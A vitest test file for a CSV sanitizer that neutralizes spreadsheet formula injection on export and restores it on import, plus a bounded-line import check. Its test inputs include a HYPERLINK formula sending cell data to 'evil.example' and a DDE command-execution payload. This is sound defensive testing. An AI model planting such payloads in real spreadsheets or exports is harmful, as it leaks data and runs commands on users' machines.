import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { neutralizeCell, readImportRows, restoreCell } from '../../../functions/core/subscribers/csv.ts';

describe('CSV cells a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', `'=HYPERLINK("https://evil.example/?"&A1,"Click")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tindented', "'\tindented"],
    ['\rline', "'\rline"],
    ["'=already", "''=already"],
  ])('%j is exported as %j', (cell, exported) => {
    expect(neutralizeCell(cell)).toBe(exported);
    expect(restoreCell(neutralizeCell(cell))).toBe(cell);
  });

  it.each(['Ana', "'Ana", "O'Brien", 'ana@example.com', '2024-03-01T00:00:00.000Z', ''])(
    'leaves %j alone both ways',
    (cell) => {
      expect(neutralizeCell(cell)).toBe(cell);
      expect(restoreCell(cell)).toBe(cell);
    },
  );
});

describe('import reads bounded lines', () => {
  it('refuses a file without line breaks at its first long line, instead of buffering it', async () => {
    const endless = Readable.from(
      (function* () {
        yield 'email\n';
        for (let i = 0; i < 100; i++) yield 'x'.repeat(4096); // 400 KiB, no newline
      })(),
    );
    const rows = readImportRows(endless, true);
    await expect(
      (async () => {
        for await (const _ of rows);
      })(),
    ).rejects.toThrow(/line 2 is longer than 65536 characters/);
  });
});
